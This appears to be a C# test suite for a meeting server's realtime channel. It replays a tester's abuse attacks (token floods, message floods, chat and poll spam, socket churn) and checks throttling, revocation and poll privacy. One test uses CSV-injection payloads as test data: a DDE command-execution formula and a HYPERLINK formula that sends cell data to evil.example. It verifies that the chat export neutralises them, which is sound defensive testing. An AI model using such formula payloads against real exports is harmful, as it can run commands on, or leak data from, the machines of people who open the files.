using System.Net;
using System.Net.WebSockets;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Stagecast.Server.Features.MeetingSessions;
using Stagecast.Server.Features.MeetingSockets;
using Stagecast.Server.Features.Realtime;
using Stagecast.Server.Hosting.Security;
using Stagecast.Server.Tests.Meetings;
using Stagecast.Streaming.Limits;
using Stagecast.Testing;

namespace Stagecast.Server.Tests.Security;

/// <summary>The hostile tester's attacks on the realtime channel, replayed.</summary>
public sealed class RealtimeAbuseTests(ServerFixture server) : IClassFixture<ServerFixture>
{
    [Fact]
    public async Task RefusedParticipantTokensAreThrottledLikeApiTokensAndLoggedWithinABudget()
    {
        var logs = new CapturedLogs();
        await using var own = (await ServerFixture.StartAsync([], builder => builder.Logging.AddProvider(logs))).AsAsyncDisposable(out var fixture);
        var api = await fixture.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var participant = await api.AddParticipantAsync(meeting, "real");

        // The attack: a flood of requests with a token that does not verify (the tester's was a forged one).
        string forged = participant.Token[..^4] + "AAAA";
        var answers = await Task.WhenAll(Enumerable.Range(0, 60).Select(_ => fixture.Http.GetAsync($"/realtime/v1?token={forged}")));
        Assert.Equal(FailedAttemptThrottle.MaxFailuresPerWindow, answers.Count(a => a.StatusCode == HttpStatusCode.Unauthorized));
        var limited = answers.Where(a => a.StatusCode == HttpStatusCode.TooManyRequests).ToList();
        Assert.Equal(60 - FailedAttemptThrottle.MaxFailuresPerWindow, limited.Count);
        Assert.All(limited, a => Assert.NotNull(a.Headers.RetryAfter));

        // The log: no line per request from the framework, and the refusals within their budget of 20 a minute.
        var lines = logs.Lines;
        Assert.DoesNotContain(lines, l => l.Category.EndsWith("AuthenticationHandler", StringComparison.Ordinal));
        var refusals = lines.Where(l => l.Category == typeof(RefusalLog).FullName).ToList();
        Assert.InRange(refusals.Count, 1, 20);
        Assert.Contains("participant token", refusals[0].Message);

        // The real participant behind the same address still gets in.
        var (client, _) = await MeetingHelpers.JoinAsync(fixture.HttpBase, participant);
        await client.DisposeAsync();
    }

    [Fact]
    public async Task MalformedMessagesAreChargedBeforeParsingAndASocketThatKeepsFloodingIsClosed()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var participant = await api.AddParticipantAsync(meeting, "flooder");
        await using var client = await RealtimeTestClient.ConnectAsync(server.HttpBase, participant.Token);

        // The attack: thousands of "{}" (no type), each of which used to get its own answer.
        var sending = Task.Run(async () =>
        {
            try
            {
                for (int i = 0; i < 5_000; i++)
                {
                    await client.SendRawAsync("{}");
                }
            }
            catch (Exception ex) when (ex is WebSocketException or ObjectDisposedException or InvalidOperationException)
            {
                // closed under our feet: what the test expects
            }
        });
        Assert.Equal(WebSocketCloseStatus.PolicyViolation, await client.WaitForCloseAsync(TimeSpan.FromSeconds(30)));
        await sending;

        // At most the burst (40) was parsed and answered, then 20 refusals in a row closed the socket.
        var seen = client.Seen;
        Assert.InRange(seen.Count(m => m.GetProperty("code").GetInt32() == 400), 1, 45);
        Assert.InRange(seen.Count(m => m.GetProperty("code").GetInt32() == 429), 1, 20);
    }

    [Fact]
    public async Task ChatIsRateLimitedPerParticipantOverAllItsSockets()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var talker = await api.AddParticipantAsync(meeting, "talker", "webinar_viewer");
        var sockets = new List<RealtimeTestClient>();
        try
        {
            for (int i = 0; i < 5; i++)
            {
                sockets.Add((await MeetingHelpers.JoinAsync(server.HttpBase, talker)).Client);
            }

            // The attack: each of five sockets sends 10 messages at once, well within each socket's own limit.
            var answers = await Task.WhenAll(sockets.SelectMany(s => Enumerable.Range(0, 10).Select(i => s.RequestAsync("chat_send", new { text = $"spam {i}" }))));
            int kept = answers.Count(a => a.GetProperty("type").GetString() == "ok");
            var refused = answers.Where(a => a.GetProperty("type").GetString() == "error").ToList();
            var chat = new ChatOptions();
            Assert.InRange(kept, chat.MessagesPerSecond * 2, (chat.MessagesPerSecond * 2) + (chat.MessagesPerSecond * 5)); // the burst, plus what refilled meanwhile
            Assert.All(refused, a => Assert.Equal(429, a.GetProperty("code").GetInt32()));
        }
        finally
        {
            foreach (var socket in sockets)
            {
                await socket.DisposeAsync();
            }
        }
    }

    [Fact]
    public async Task ASessionStoresAtMostItsChatBudgetAndOldChatIsDeleted()
    {
        await using var own = (await ServerFixture.StartAsync(["--set", "Stagecast:Chat:MaxMessagesPerSession=5", "--set", "Stagecast:Chat:MessagesPerSecond=1000"]))
            .AsAsyncDisposable(out var fixture);
        var api = await fixture.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var (client, joined) = await MeetingHelpers.JoinAsync(fixture.HttpBase, await api.AddParticipantAsync(meeting, "writer"));
        await using var _ = client;
        for (int i = 0; i < 5; i++)
        {
            await client.OkAsync("chat_send", new { text = $"message {i}" });
        }

        var full = await client.RequestAsync("chat_send", new { text = "one too many" });
        Assert.Equal(413, full.GetProperty("code").GetInt32());
        Assert.Contains("chat is full", full.GetProperty("message").GetString());
        string sessionId = joined.GetProperty("meeting").GetProperty("session_id").GetString()!;
        var store = fixture.App.Services.GetRequiredService<IMeetingSessionStore>();
        Assert.Equal(5, (await store.ListChatAsync(sessionId, CancellationToken.None)).Count);

        // Retention: a message older than the setting (90 days by default) goes at the next sweep; recent ones stay.
        var old = (await store.ListChatAsync(sessionId, CancellationToken.None))[0] with { Id = Guid.NewGuid().ToString(), CreatedAt = DateTimeOffset.UtcNow.AddDays(-91) };
        await store.AddChatAsync(old, CancellationToken.None);
        Assert.Equal(1, await fixture.App.Services.GetRequiredService<ChatRetentionService>().SweepAsync(CancellationToken.None));
        Assert.Equal(5, (await store.ListChatAsync(sessionId, CancellationToken.None)).Count);
    }

    [Fact]
    public async Task AParticipantWaitsOnOneSocketAndHostsHearOfEachWaiterOnce()
    {
        var api = await server.NewTenantAsync();
        (await api.PostAsync("/presets", """{"name":"waits","permissions":{"waiting_room_type":"ON_PRIVILEGED_USER_ENTRY"}}""")).EnsureOk();
        string meeting = await api.CreateMeetingAsync();
        var (host, _) = await MeetingHelpers.JoinAsync(server.HttpBase, await api.AddParticipantAsync(meeting, "host"));
        await using var _h = host;
        var guest = await api.AddParticipantAsync(meeting, "guest", "waits");

        // The attack: one waitlisted token opens socket after socket (the tester's 400 each made every host receive
        // the whole list again). Each newer socket takes the older one's place, which is told so and closed.
        var sockets = new List<RealtimeTestClient>();
        var joins = new List<Task<JsonElement>>();
        try
        {
            string? waitId = null;
            for (int i = 0; i < 20; i++)
            {
                var socket = await RealtimeTestClient.ConnectAsync(server.HttpBase, guest.Token);
                sockets.Add(socket);
                joins.Add(socket.RequestAsync("join"));
                string id = (await socket.WaitForEventAsync("waitlisted")).GetProperty("waitlist_id").GetString()!;
                Assert.Equal(waitId ?? id, id); // the same place in the list
                waitId = id;
                if (i > 0)
                {
                    var replaced = await joins[i - 1];
                    Assert.Equal(("error", 409), (replaced.GetProperty("type").GetString(), replaced.GetProperty("code").GetInt32()));
                    Assert.Equal(MeetingSocketCloseCodes.Replaced, await sockets[i - 1].WaitForCloseAsync());
                }
            }

            var (second, secondJoined) = await MeetingHelpers.JoinAsync(server.HttpBase, await api.AddParticipantAsync(meeting, "cohost"));
            await using var _s = second;
            Assert.Equal(1, secondJoined.GetProperty("waitlisted").GetArrayLength());

            // Let in: the newest socket enters. The host heard of the waiter once, and of its end once.
            await host.OkAsync("waitlist_accept", new { waitlist_id = waitId });
            Assert.Equal("ok", (await joins[^1]).GetProperty("type").GetString());
            await host.WaitForEventAsync("waitlist_removed");
            Assert.Single(host.Seen, m => m.GetProperty("type").GetString() == "waitlist_added");
            Assert.Single(host.Seen, m => m.GetProperty("type").GetString() == "waitlist_removed");
        }
        finally
        {
            foreach (var socket in sockets)
            {
                await socket.DisposeAsync();
            }
        }
    }

    [Fact]
    public async Task ASessionHoldsAtMostItsPollBudgetAndAJoinAnswerCarriesAPageOfPollsAndChat()
    {
        await using var own = (await ServerFixture.StartAsync(["--set", "Stagecast:Realtime:MaxPollsPerSession=10", "--set", "Stagecast:Realtime:MessagesPerSecond=1000", "--set", "Stagecast:Chat:MessagesPerSecond=1000"]))
            .AsAsyncDisposable(out var fixture);
        var api = await fixture.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var (client, _) = await MeetingHelpers.JoinAsync(fixture.HttpBase, await api.AddParticipantAsync(meeting, "pollster"));
        await using var _c = client;

        // The attack: poll after poll (the tester's 519 made a 6.1 MB join answer), from the channel and the API.
        var question = new { question = new string('?', 1000), options = Enumerable.Range(0, 20).Select(i => new string((char)('a' + i), 500)).ToArray() };
        for (int i = 0; i < 10; i++)
        {
            await client.OkAsync("poll_create", question);
        }

        var refused = await client.RequestAsync("poll_create", question);
        Assert.Equal(413, refused.GetProperty("code").GetInt32());
        Assert.Contains("maximum of 10 polls", refused.GetProperty("message").GetString());
        var byApi = await api.PostAsync($"/meetings/{meeting}/active-session/poll", JsonSerializer.Serialize(question));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, byApi.Status);
        Assert.Contains("maximum of 10 polls", byApi.ErrorMessage);
        for (int i = 0; i < 30; i++)
        {
            await client.OkAsync("chat_send", new { text = $"{i:00}" + new string('x', 3998) });
        }

        // A join answer carries the newest polls and chat up to 64 KiB each (a poll here is 11.6 KB, a message 4 KB);
        // the rest comes page by page, each before the oldest one had.
        var (late, joined) = await MeetingHelpers.JoinAsync(fixture.HttpBase, await api.AddParticipantAsync(meeting, "late"));
        await using var _l = late;
        Assert.True(joined.GetRawText().Length < 200_000, $"a join answer of {joined.GetRawText().Length} bytes");
        Assert.True(joined.GetProperty("more_polls").GetBoolean());
        Assert.True(joined.GetProperty("more_chat").GetBoolean());
        var polls = await AllPagesAsync(late, "polls_list", joined.GetProperty("polls"), "polls");
        Assert.Equal(10, polls.Distinct().Count());
        var chat = await AllPagesAsync(late, "chat_history", joined.GetProperty("chat"), "messages");
        Assert.Equal(30, chat.Count);
        var texts = (await late.OkAsync("chat_history", new { before = chat[1] })).GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("text").GetString()![..2]).ToList();
        Assert.Equal(["00"], texts);
        Assert.Equal(404, (await late.RequestAsync("polls_list", new { before = "no-such-poll" })).GetProperty("code").GetInt32());
    }

    /// <summary>The ids of a join's first page and every older page, oldest first.</summary>
    private static async Task<List<string>> AllPagesAsync(RealtimeTestClient client, string request, JsonElement first, string field)
    {
        var ids = first.EnumerateArray().Select(e => e.GetProperty("id").GetString()!).ToList();
        while (true)
        {
            var page = await client.OkAsync(request, new { before = ids[0] });
            var older = page.GetProperty(field).EnumerateArray().Select(e => e.GetProperty("id").GetString()!).ToList();
            Assert.NotEmpty(older);
            ids.InsertRange(0, older);
            if (!page.GetProperty("more").GetBoolean())
            {
                return ids;
            }
        }
    }

    [Fact]
    public async Task TheChatExportNeutralisesFormulasAndIsADownload()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var participant = await api.AddParticipantAsync(meeting, "mallory", name: "=cmd|' /C calc'!A0");
        var (client, joined) = await MeetingHelpers.JoinAsync(server.HttpBase, participant);
        await using var _ = client;
        await client.OkAsync("chat_send", new { text = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" });
        await client.OkAsync("chat_send", new { text = "@SUM(1+1)" });
        await client.OkAsync("chat_send", new { text = "-2+3" });

        string sessionId = joined.GetProperty("meeting").GetProperty("session_id").GetString()!;
        string url = (await api.GetAsync($"/sessions/{sessionId}/chat")).EnsureOk().Data.GetProperty("chat_download_url").GetString()!;
        using var download = await server.Http.GetAsync(url);
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", download.Headers.GetValues("X-Content-Type-Options").Single());
        string csv = await download.Content.ReadAsStringAsync();
        Assert.Contains(",'=cmd|' /C calc'!A0,", csv);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", csv);
        Assert.Contains(",'@SUM(1+1),", csv);
        Assert.Contains(",'-2+3,", csv);
        Assert.DoesNotContain(",=", csv);
    }

    [Fact]
    public async Task AReissuedTokenOrANewPresetClosesOpenSocketsAndPrivilegedRequestsAreRechecked()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var host = await api.AddParticipantAsync(meeting, "host", "webinar_host");

        // Reissuing the token: the open socket is closed at once, and the old token no longer opens one.
        var (first, _) = await MeetingHelpers.JoinAsync(server.HttpBase, host);
        await using (first)
        {
            (await api.PostAsync($"/meetings/{meeting}/participants/{host.Id}/token")).EnsureOk();
            Assert.Equal("the participant's token was reissued", (await first.WaitForEventAsync("kicked")).GetProperty("reason").GetString());
            Assert.Equal((WebSocketCloseStatus)4001, await first.WaitForCloseAsync());
        }

        Assert.Equal(HttpStatusCode.Unauthorized, (await server.Http.GetAsync($"/realtime/v1?token={host.Token}")).StatusCode);

        // Demotion: the host becomes a viewer; its socket closes, and it can no longer start the livestream (and so
        // never sees its stream key) from the socket it opens next.
        var again = await api.AddParticipantAsync(meeting, "host", "webinar_host");
        var (second, _) = await MeetingHelpers.JoinAsync(server.HttpBase, again);
        await using (second)
        {
            var demoted = await api.SendAsync(HttpMethod.Patch, $"/meetings/{meeting}/participants/{again.Id}", """{"preset_name":"webinar_viewer"}""");
            demoted.EnsureOk();
            Assert.Equal("the participant's preset changed to webinar_viewer", (await second.WaitForEventAsync("kicked")).GetProperty("reason").GetString());
            Assert.Equal((WebSocketCloseStatus)4001, await second.WaitForCloseAsync());
        }

        var (third, _) = await MeetingHelpers.JoinAsync(server.HttpBase, again);
        await using (third)
        {
            var start = await third.RequestAsync("livestream_start", new { manual_ingest = true });
            Assert.Equal(1901, start.GetProperty("code").GetInt32());
            Assert.DoesNotContain("stream_key", start.ToString());
        }
    }

    [Fact]
    public async Task APrivilegedRequestOnASocketWhoseTokenWasRevokedMeanwhileIsRefused()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var host = await api.AddParticipantAsync(meeting, "host", "webinar_host");
        await using var socket = await RealtimeTestClient.ConnectAsync(server.HttpBase, host.Token);

        // Revoked after the socket opened, before it joined: it is in no room yet, so nothing kicks it; the join is
        // re-checked.
        (await api.PostAsync($"/meetings/{meeting}/participants/{host.Id}/token")).EnsureOk();
        var join = await socket.RequestAsync("join");
        Assert.Equal((401, "this participant token was revoked"), (join.GetProperty("code").GetInt32(), join.GetProperty("message").GetString()));
        Assert.Equal((WebSocketCloseStatus)4001, await socket.WaitForCloseAsync());
    }

    [Fact]
    public async Task ASocketClosesWhenItsTokenExpires()
    {
        await using var own = (await ServerFixture.StartAsync(["--set", "Stagecast:Participants:TokenLifetime=00:00:03"])).AsAsyncDisposable(out var fixture);
        var api = await fixture.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var (client, _) = await MeetingHelpers.JoinAsync(fixture.HttpBase, await api.AddParticipantAsync(meeting, "brief"));
        await using var _c = client;
        Assert.Equal((WebSocketCloseStatus)4001, await client.WaitForCloseAsync(TimeSpan.FromSeconds(15)));
        Assert.Equal("the participant token expired", client.CloseDescription);
    }

    [Fact]
    public async Task AHideVotesPollTellsNobodyWhoVotedBeforeTheyVote()
    {
        var api = await server.NewTenantAsync();
        string meeting = await api.CreateMeetingAsync();
        var (host, _) = await MeetingHelpers.JoinAsync(server.HttpBase, await api.AddParticipantAsync(meeting, "host"));
        await using var _h = host;
        var voterIdentity = await api.AddParticipantAsync(meeting, "voter", "group_call_participant");
        var (voter, _) = await MeetingHelpers.JoinAsync(server.HttpBase, voterIdentity);
        await using var _v = voter;
        var (watcher, _) = await MeetingHelpers.JoinAsync(server.HttpBase, await api.AddParticipantAsync(meeting, "watcher", "group_call_participant"));
        await using var _w = watcher;

        string pollId = (await host.OkAsync("poll_create", new { question = "Secret?", options = new[] { "yes", "no" }, hide_votes = true }))
            .GetProperty("poll").GetProperty("id").GetString()!;
        await voter.OkAsync("poll_vote", new { poll_id = pollId, option = 0 });

        // The watcher has not voted: after the vote it hears of, no counts, no voters, and no list of who voted.
        await watcher.WaitForEventAsync("poll_updated"); // the poll was created
        var update = await watcher.WaitForEventAsync("poll_updated"); // someone voted
        Assert.Equal(0, update.GetProperty("poll").GetProperty("options")[0].GetProperty("count").GetInt32());
        Assert.Empty(update.GetProperty("poll").GetProperty("voted").EnumerateArray());
        Assert.DoesNotContain(voterIdentity.Id, update.ToString());

        // The host (the poll's creator) sees who voted.
        var hostView = await host.WaitForEventAsync("poll_updated", m => m.GetProperty("poll").GetProperty("voted").GetArrayLength() == 1);
        Assert.Equal(voterIdentity.Id, hostView.GetProperty("poll").GetProperty("voted")[0].GetString());
    }
}
